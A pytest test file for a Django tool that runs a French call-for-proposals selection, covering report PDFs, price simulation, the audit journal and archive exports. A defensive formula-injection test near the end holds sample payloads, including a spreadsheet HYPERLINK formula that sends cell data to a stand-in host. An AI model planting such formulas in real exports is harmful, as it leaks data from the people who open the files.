"""Staff reports of the selection: rapport d'analyse, price simulation, journal, archive."""

import csv
import io
import subprocess
import zipfile

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from ami.documents.archive import ami_archive
from ami.models import AMI, Dossier, Prestataire
from ami.services.eligibility import dossier_set_eligibility
from tests.committee import AFTER, decide, grade, scored
from tests.factories import AMIFactory
from tests.pdfs import pdf_text
from tests.web import login


def exported(client, name, capture, reference="ami-2026"):
    """Ask for an export made by a job (eager here), follow its page and status, return the file's response."""
    with capture(execute=True):
        response = client.post(reverse(name, args=[reference]))
    page = client.get(response["Location"])
    assert page.status_code == 200 and "préparé en arrière-plan" in page.content.decode()
    status = client.get(response["Location"] + "statut/").json()
    assert (status["status"], status["done"]) == ("pret", True)
    return client.get(status["url"])


def decided_then_exported(committee, name, capture):
    """After the deadline: the committee's grids scored and the decision made, then staff's export `name`."""
    with time_machine.travel(AFTER, tick=False):
        scored(committee)
        decide(committee)
        return exported(login(committee["staff"]), name, capture)


# -- rapport d'analyse ----------------------------------------------------------------


@pytest.mark.django_db
def test_rapport_holds_committee_eligibility_grid_comments_and_decision(committee, django_capture_on_commit_callbacks):
    response = decided_then_exported(committee, "ami:rapport", django_capture_on_commit_callbacks)
    assert (response["Content-Type"], response["Content-Disposition"]) == (
        "application/pdf",
        'inline; filename="rapport-analyse-ami-2026.pdf"',
    )
    text = pdf_text(b"".join(response.streaming_content))
    for expected in (
        "Rapport d'analyse des candidatures",
        "Éval1 Comité",
        "Éval2 Comité",
        "Éval3 Comité",
        "Candidat B : Ancienne collègue du gérant",  # who declared a conflict on which dossier
        "Irrecevable",
        "Ne peut pas couvrir les 7 sites (AMI §6.1) – Deux antennes seulement",
        "80,00",
        "77,44",
        "72,29",
        "Commentaire methodologie",
        "Commentaire couverture",
        "Candidat retenu : Candidat B",
        "conflit",
    ):
        assert expected in text, expected
    # the price figures used: B's annual total (21 × 420, exonéré) is the lowest
    assert "le plus bas 8\u202f820,00\xa0€" in text
    # the ranking: B first, then A, then C
    assert text.index("1. Candidat B – 80,00 / 100") < text.index("2. Candidat A – 77,44 / 100")
    assert text.index("2. Candidat A – 77,44 / 100") < text.index("3. Candidat C – 72,29 / 100")


@pytest.mark.django_db
def test_rapport_never_breaks_an_amount_over_two_lines(committee, django_capture_on_commit_callbacks, tmp_path):
    # long criteria and a long name squeeze the ranking's columns, as the demo's six criteria do
    for critere in committee["ami"].criteres.all():
        critere.libelle = f"{critere.libelle} : appréciation détaillée du comité de sélection"
        critere.save()
    Prestataire.objects.filter(raison_sociale="Candidat A").update(
        raison_sociale="Candidat A – Cabinet d'accompagnement interprofessionnel Horizon-Méditerranée-Pyrénées"
    )
    response = decided_then_exported(committee, "ami:rapport", django_capture_on_commit_callbacks)
    pdf = tmp_path / "rapport.pdf"
    pdf.write_bytes(b"".join(response.streaming_content))
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, check=True, text=True).stdout
    lines = [" ".join(line.replace("\u202f", " ").replace("\xa0", " ").split()) for line in text.splitlines()]
    # every amount keeps its « € » on its line: no line starts with a « € » left over from the line above
    assert not [line for line in lines if line.startswith("€")], lines
    for amount in ("8 820,00 €", "12 096,00 €", "12 852,00 €"):
        assert any(amount in line for line in lines if line.startswith(("1 ", "2 ", "3 "))), amount


@pytest.mark.django_db
def test_rapport_before_any_eligibility_says_so(committee, django_capture_on_commit_callbacks):
    with time_machine.travel(AFTER, tick=False):
        response = exported(login(committee["staff"]), "ami:rapport", django_capture_on_commit_callbacks)
    text = pdf_text(b"".join(response.streaming_content))
    assert "Aucun dossier recevable à classer." in text
    assert "Aucune décision n'est encore prise." in text
    assert "Non examiné" in text


@pytest.mark.django_db
def test_reports_are_for_staff_only(committee):
    evaluator = committee["evaluators"][0]
    for name, method in (("ami:rapport", "post"), ("ami:price_simulation", "get"), ("ami:audit", "get"),
                         ("ami:archive", "post")):  # fmt: skip
        assert getattr(login(evaluator), method)(reverse(name, args=["ami-2026"])).status_code == 403, name
        assert getattr(login(committee["staff"]), method)(reverse(name, args=["inconnu"])).status_code == 404, name


# -- price simulation ---------------------------------------------------------------


def simulate(committee, reference="ami-2026", **params):
    return login(committee["staff"]).get(reverse("ami:price_simulation", args=[reference]), params)


@pytest.mark.django_db
def test_price_simulation_defaults_show_both_formulas_with_the_ami_s_highlighted(committee):
    response = simulate(committee)
    assert response.status_code == 200
    rows = response.context["rows"]
    assert [str(r["prix"]) for r in rows] == ["300", "350", "400", "450", "500", "550", "600"]
    # 21 séances × 300 € HT × 1,20 = 7 560 € TTC, the lowest: all 15 points under both formulas
    assert (str(rows[0]["ttc"]), [str(p["value"]) for p in rows[0]["points"]]) == ("7560.00", ["15.00", "15.00"])
    # 600 €: proportionnelle 15 × 300/600 = 7,50; linéaire 15 × (1 − 300/300) = 0
    assert (str(rows[-1]["ttc"]), [str(p["value"]) for p in rows[-1]["points"]]) == ("15120.00", ["7.50", "0.00"])
    assert [p["chosen"] for p in rows[0]["points"]] == [True, False]  # proportionnelle is the AMI's
    page = response.content.decode()
    assert "formule de l'AMI" in page
    assert '<td class="text-end table-primary fw-bold">7,50</td>' in page
    assert "15\u202f120,00\xa0€" in page


@pytest.mark.django_db
def test_price_simulation_with_a_lowest_annual_total_and_the_linear_formula(committee):
    AMI.objects.filter(reference="ami-2026").update(formule_prix="lineaire")
    response = simulate(
        committee,
        prix_min="400",
        prix_max="500",
        pas="100",
        taux_tva="0",
        plus_bas="8000",
        plus_bas_unite="total",
    )
    rows = response.context["rows"]
    # 400 € × 21 = 8 400 € against 8 000 €: proportionnelle 15 × 8000/8400 = 14,29; linéaire 15 × (1 − 400/8000) = 14,25
    assert [(str(r["ttc"]), [str(p["value"]) for p in r["points"]]) for r in rows] == [
        ("8400.00", ["14.29", "14.25"]),
        ("10500.00", ["11.43", "10.31"]),
    ]
    assert [p["chosen"] for p in rows[0]["points"]] == [False, True]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("params", "field", "message"),
    [
        (
            {"prix_min": "600", "prix_max": "300"},
            "prix_max",
            "Le prix maximal doit être supérieur ou égal au prix minimal.",
        ),
        ({"pas": "1"}, "pas", "La plage compte 301 prix : 100 au plus. Augmentez le pas ou réduisez la plage."),
        ({"pas": "0"}, "pas", "Le pas doit être supérieur à 0 €."),
        ({"prix_min": "0"}, "prix_min", "Le prix minimal doit être supérieur à 0 €."),
        ({"prix_min": "abc"}, "prix_min", "Saisissez un montant en euros, par exemple 450 ou 450,50."),
        ({"prix_max": ""}, "prix_max", "Indiquez un montant."),
        ({"taux_tva": "120"}, "taux_tva", "Le taux de TVA est compris entre 0 et 100 %."),
        (
            {"plus_bas": "350"},
            "plus_bas",
            "Le prix le plus bas ne peut pas dépasser le bas de la plage simulée (7\u202f560,00\xa0€ TTC par an).",
        ),
    ],
)
def test_price_simulation_refuses_bad_input_at_the_field(committee, params, field, message):
    data = {"prix_min": "300", "prix_max": "600", "pas": "50", "taux_tva": "20", "plus_bas_unite": "seance", **params}
    response = simulate(committee, **data)
    assert response.context["rows"] is None
    assert response.context["form"].errors == {field: [message]}


@pytest.mark.django_db
def test_price_simulation_accepts_french_decimals_and_works_before_publication(committee):
    AMIFactory(reference="ami-brouillon", status=AMI.Status.BROUILLON)
    response = simulate(
        committee, reference="ami-brouillon", prix_min="399,50", prix_max="400", pas="0,5", taux_tva="20"
    )
    assert response.status_code == 200
    assert [str(r["prix"]) for r in response.context["rows"]] == ["399.50", "400.00"]


# -- journal --------------------------------------------------------------------------


@pytest.mark.django_db
def test_journal_shows_who_when_and_before_after_newest_first(committee):
    staff, d = committee["staff"], committee["dossiers"]
    with time_machine.travel(AFTER, tick=True):
        scored(committee)
        # through the page, so that the history records the user
        login(staff).post(
            reverse("ami:eligibility", args=["ami-2026"]),
            {"dossier": d["D"].pk, f"d{d['D'].pk}-decision": "irrecevable", f"d{d['D'].pk}-motif": "incomplet"},
        )
        decide(committee)
        response = login(staff).get(reverse("ami:audit", args=["ami-2026"]))
    page = response.content.decode()
    entries = response.context["page"].object_list
    assert [entry.when for entry in entries] == sorted((entry.when for entry in entries), reverse=True)
    eligibility = [e for e in entries if e.kind == "Dossier" and e.subject == "Candidat D"]
    latest = eligibility[0]
    assert (str(latest.user), latest.reason) == (str(staff), "Recevabilité : Irrecevable")
    assert [(c.label, c.before, c.after) for c in latest.changes] == [
        ("motif d'irrecevabilité", "Ne peut pas couvrir les 7 sites (AMI §6.1)", "Dossier incomplet"),
        ("précisions sur la recevabilité", "Deux antennes seulement", "—"),
    ]
    assert (
        "Motif d&#x27;irrecevabilité : Ne peut pas couvrir les 7 sites (AMI §6.1) → <strong>Dossier incomplet</strong>"
        in page
    )
    full = response.context["page"].paginator.object_list
    kinds = {e.kind for e in full}
    assert {"Dossier", "Grille d'évaluation", "Note", "Décision", "Lettre", "Convention"} <= kinds
    conflict = next(e for e in full if e.kind == "Grille d'évaluation" and e.subject == "Éval3 Comité – Candidat B")
    assert ("conflit d'intérêts déclaré", "—", "oui") in [(c.label, c.before, c.after) for c in conflict.changes]
    note = next(
        e for e in full if e.kind == "Note" and e.subject == "Éval1 Comité – Candidat A – Méthodologie" and e.changes
    )
    assert [(c.label, c.before, c.after) for c in note.changes] == [
        ("note (0 à 10)", "—", "8"),
        ("commentaire", "—", "Commentaire methodologie"),
    ]
    assert response.context["page"].paginator.per_page == 50
    assert response.context["page"].paginator.count > 50
    second = login(staff).get(reverse("ami:audit", args=["ami-2026"]), {"page": 2})
    assert second.status_code == 200 and "page 2 sur" in second.content.decode()


@pytest.mark.django_db
def test_each_ami_journal_shows_its_own_records_with_their_sql_compiled_once(committee):
    """The journal's SQL is compiled once per AMI (ami.selectors.Journal.keys_sql): the second AMI's page,
    and the first's again, each show their own AMI's records only."""
    other = AMIFactory(reference="ami-autre", titre="Un autre appel")
    client = login(committee["staff"])
    subjects = {}
    for reference in ("ami-2026", "ami-autre", "ami-2026"):
        response = client.get(reverse("ami:audit", args=[reference]))
        full = response.context["page"].paginator.object_list
        subjects.setdefault(reference, []).append({e.subject for e in full if e.kind == "AMI"})
    assert subjects["ami-2026"] == [{committee["ami"].titre}] * 2
    assert subjects["ami-autre"] == [{other.titre}]


def journal_queries(committee, names):
    e1 = committee["evaluators"][0]
    for name in names:
        dossier_set_eligibility(dossier=committee["dossiers"][name], recevable=True, user=committee["staff"])
        grade(e1, committee["dossiers"][name], [5, 6, 7])
    client = login(committee["staff"])
    url = reverse("ami:audit", args=["ami-2026"])
    client.get(url)  # warm the session
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url).status_code == 200
    return len(queries)


@pytest.mark.django_db
def test_journal_query_count_does_not_grow(committee):
    with time_machine.travel(AFTER, tick=True):
        one = journal_queries(committee, "A")
        several = journal_queries(committee, "BCD")
        assert several == one
        decide(committee, justification_grilles="Une grille par dossier suffit à ce test.")
        with_decision = journal_queries(committee, "")
    assert with_decision == one


# -- archive --------------------------------------------------------------------------


def read_csv(archive, name):
    return list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")), delimiter=";"))


@pytest.mark.django_db
def test_archive_holds_every_version_grids_results_rapport_decision_letters_convention(
    committee, django_capture_on_commit_callbacks
):
    response = decided_then_exported(committee, "ami:archive", django_capture_on_commit_callbacks)
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"] == 'attachment; filename="archive-ami-2026.zip"'
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    names = archive.namelist()
    for letter in "ABCD":
        assert f"dossiers/candidat-{letter.lower()}/v1/dossier-candidat-{letter.lower()}-v1.pdf" in names
        assert f"dossiers/candidat-{letter.lower()}/v1/accuse-reception-ami-2026-v1.pdf" in names
        assert f"dossiers/candidat-{letter.lower()}/v1/pieces/CV - cv-marc-olivier.pdf" in names
    assert sorted(n for n in names if not n.startswith("dossiers/")) == [
        "convention/CONV-APP-2026-001.pdf".replace("001", f"{committee['ami'].decision.pk:03d}"),
        "decision.csv",
        "evaluations.csv",
        *sorted(f"lettres/lettre-candidat-{x}-ami-2026.pdf" for x in "abcd"),
        "rapport-analyse-ami-2026.pdf",
        "recevabilite.csv",
        "resultats.csv",
    ]
    results = read_csv(archive, "resultats.csv")
    assert [(r[0], r[1], r[-1]) for r in results[1:]] == [
        ("1", "Candidat B", "80,00"),
        ("2", "Candidat A", "77,44"),
        ("3", "Candidat C", "72,29"),
    ]
    header = archive.read("evaluations.csv").decode("utf-8-sig").splitlines()[0]
    assert (
        header == "Dossier;Évaluateur;Critère;Note;Commentaire;Grille soumise le;Conflit d'intérêts;Nature du conflit"
    )
    grids = read_csv(archive, "evaluations.csv")
    assert [
        "Candidat A",
        "Éval1 Comité",
        "Méthodologie",
        "8",
        "Commentaire methodologie",
        "01/06/2026 23:59:59",
        "non",
        "",
    ] in grids
    assert ["Candidat B", "Éval3 Comité", "", "", "", "", "oui", "Ancienne collègue du gérant"] in grids
    assert len(grids) == 1 + 8 * 3 + 1
    eligibility = read_csv(archive, "recevabilite.csv")
    assert eligibility[4][:5] == [
        "Candidat D",
        committee["dossiers"]["D"].prestataire.siret,
        "Irrecevable",
        "Ne peut pas couvrir les 7 sites (AMI §6.1)",
        "Deux antennes seulement",
    ]
    decision = read_csv(archive, "decision.csv")
    assert decision[1][:3] == ["Candidat retenu", "Candidat B", ""]
    rapport = pdf_text(archive.read("rapport-analyse-ami-2026.pdf"))
    assert "Candidat retenu : Candidat B" in rapport and "80,00" in rapport
    lettre = committee["ami"].decision.lettres.get(dossier=committee["dossiers"]["A"])
    with lettre.fichier.open("rb") as handle:
        assert archive.read("lettres/lettre-candidat-a-ami-2026.pdf") == handle.read()
    assert "Votre proposition est classée 2e" in pdf_text(archive.read("lettres/lettre-candidat-a-ami-2026.pdf"))


@pytest.mark.django_db
def test_archive_before_the_decision_has_no_decision_letters_or_convention(committee, tmp_path):
    with time_machine.travel(AFTER, tick=False), open(tmp_path / "a.zip", "w+b") as handle:
        ami_archive(committee["ami"], handle, user=committee["staff"])
        handle.seek(0)
        names = zipfile.ZipFile(handle).namelist()
    assert [n for n in names if not n.startswith("dossiers/")] == [
        "recevabilite.csv",
        "evaluations.csv",
        "resultats.csv",
        "rapport-analyse-ami-2026.pdf",
    ]
    assert len([n for n in names if n.startswith("dossiers/")]) == 4 * 3


@pytest.mark.django_db
def test_an_export_is_its_requesters_own_and_a_failure_says_so_in_french(committee, monkeypatch):
    from mlhg_app import exports
    from mlhg_app.models import StoredExport
    from tests.factories import UserFactory

    export = exports.export_request(kind="ami.rapport", object_id=committee["ami"].pk, user=committee["staff"])
    other = UserFactory(email="autre.staff@ml31.org", role="staff", is_staff=True, antenne=None)
    for name in ("export", "export_status", "export_download"):
        assert login(other).get(reverse(name, kwargs={"pk": export.pk})).status_code == 404, name
    # not ready yet: the page says so, the file is not there
    assert "en attente" in login(committee["staff"]).get(reverse("export", kwargs={"pk": export.pk})).content.decode()
    assert login(committee["staff"]).get(reverse("export_download", kwargs={"pk": export.pk})).status_code == 404

    def broken(ami_id, user):
        raise RuntimeError("mise en page impossible")

    monkeypatch.setitem(exports._kinds, "ami.rapport", exports.Kind("ami.rapport", broken, "Rapport d'analyse (PDF)"))
    with pytest.raises(RuntimeError):
        exports.export_run(export_id=export.pk)
    status = login(committee["staff"]).get(reverse("export_status", kwargs={"pk": export.pk})).json()
    assert (status["status"], status["done"], status["url"]) == ("echec", True, "")
    assert status["erreur"] == "L'export a échoué (RuntimeError)."
    assert StoredExport.objects.get(pk=export.pk).fichier.name == ""


@pytest.mark.django_db
def test_export_files_are_purged_after_a_week(committee, django_capture_on_commit_callbacks):
    import datetime

    from django.core.files.storage import default_storage
    from django.utils import timezone

    from mlhg_app import exports, retention

    export = exports.export_request(kind="ami.rapport", object_id=committee["ami"].pk, user=committee["staff"])
    exports.export_run(export_id=export.pk)
    export.refresh_from_db()
    assert default_storage.exists(export.fichier.name)
    now = timezone.now()
    assert retention.purge_expired(now=now + datetime.timedelta(days=6))["mlhg_app.exports"]["exports"] == 0
    with django_capture_on_commit_callbacks(execute=True):
        counts = retention.purge_expired(now=now + datetime.timedelta(days=8))["mlhg_app.exports"]
    assert counts == {"exports": 1, "fichiers": 1}
    assert not default_storage.exists(export.fichier.name)


# -- formulas in exports ------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://x.example/?d="&A1,"Pyrène")'
TYPED = {"raison_sociale": HYPERLINK, "commentaire": "=1+1", "motif": "@SUM(A1:A9)", "tab": "\t-2+3"}


def _formula_cells(workbook) -> list[str]:
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.mark.django_db
def test_hole_09_what_a_candidate_or_an_evaluator_types_stays_text_in_every_csv_and_xlsx(
    committee,
    tmp_path,
):
    from openpyxl import load_workbook

    from ami.models import Note, Prestataire

    with time_machine.travel(AFTER, tick=False):
        scored(committee)
        d = committee["dossiers"]
        Prestataire.objects.filter(pk=d["A"].prestataire_id).update(raison_sociale=TYPED["raison_sociale"])
        Note.objects.filter(evaluation__dossier=d["C"]).update(commentaire=TYPED["commentaire"])
        Dossier.objects.filter(pk=d["D"].pk).update(motif_detail=TYPED["motif"])
        Prestataire.objects.filter(pk=d["B"].prestataire_id).update(raison_sociale=TYPED["tab"])
        client = login(committee["staff"])
        xlsx = client.get(reverse("ami:results_xlsx", args=["ami-2026"])).content
        results_csv = client.get(reverse("ami:results_csv", args=["ami-2026"])).content.decode("utf-8-sig")
        with open(tmp_path / "a.zip", "w+b") as handle:
            ami_archive(committee["ami"], handle, user=committee["staff"])
            handle.seek(0)
            archive = zipfile.ZipFile(handle)
            eligibility = read_csv(archive, "recevabilite.csv")
            grids = read_csv(archive, "evaluations.csv")
            archived_results = read_csv(archive, "resultats.csv")

    # XLSX (read back by openpyxl): no formula anywhere; the text shown as typed; numbers stay numbers.
    workbook = load_workbook(io.BytesIO(xlsx))
    assert _formula_cells(workbook) == []
    sheet = workbook.active
    names = [sheet.cell(row=i, column=2).value for i in (2, 3, 4)]
    assert names == [TYPED["tab"], TYPED["raison_sociale"], "Candidat C"]
    assert [sheet.cell(row=i, column=2).data_type for i in (2, 3, 4)] == ["s", "s", "s"]
    assert [sheet.cell(row=i, column=2).quotePrefix for i in (2, 3, 4)] == [True, True, False]
    assert [sheet.cell(row=i, column=1).value for i in (2, 3, 4)] == [1, 2, 3]
    assert sheet.cell(row=2, column=sheet.max_column).value == 80.0
    assert sheet.cell(row=2, column=sheet.max_column).data_type == "n"

    # CSV (read back by the csv module): a cell that would start a formula starts with a quote.
    results = list(csv.reader(io.StringIO(results_csv), delimiter=";"))
    for rows in (results, archived_results):
        assert [(r[0], r[1], r[-1]) for r in rows[1:]] == [
            ("1", "'" + TYPED["tab"], "80,00"),
            ("2", "'" + TYPED["raison_sociale"], "77,44"),
            ("3", "Candidat C", "72,29"),
        ]
    comments = {row[4] for row in grids[1:] if row[0] == "Candidat C"}
    assert comments == {"'=1+1"}
    assert {row[0]: row[4] for row in eligibility[1:]}["Candidat D"] == "'@SUM(A1:A9)"
    assert {row[0] for row in eligibility[1:]} == {
        "'" + TYPED["raison_sociale"],
        "'" + TYPED["tab"],
        "Candidat C",
        "Candidat D",
    }
    every_cell = [cell for rows in (results, archived_results, grids, eligibility) for row in rows for cell in row]
    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.django_db
def test_journal_pages_read_in_sql_show_every_entry_once_newest_first(committee):
    # bad page numbers: tests/test_pagination.py
    staff = committee["staff"]
    url = reverse("ami:audit", args=["ami-2026"])
    with time_machine.travel(AFTER, tick=True):
        scored(committee)
        client = login(staff)
        first = client.get(url).context["page"]
        pages = first.paginator.num_pages
        assert pages >= 2
        shown = {}
        for number in range(1, pages + 1):
            page = client.get(url, {"page": number}).context["page"]
            shown[number] = [(e.kind, e.subject, e.when, e.history_id) for e in page.object_list]
        # every entry once, newest first, 50 a page, the last page the rest
        everything = [key for number in sorted(shown) for key in shown[number]]
        assert len(everything) == len(set(everything)) == first.paginator.count
        assert [len(shown[n]) for n in range(1, pages)] == [50] * (pages - 1)
        assert [key[2] for key in everything] == sorted((key[2] for key in everything), reverse=True)
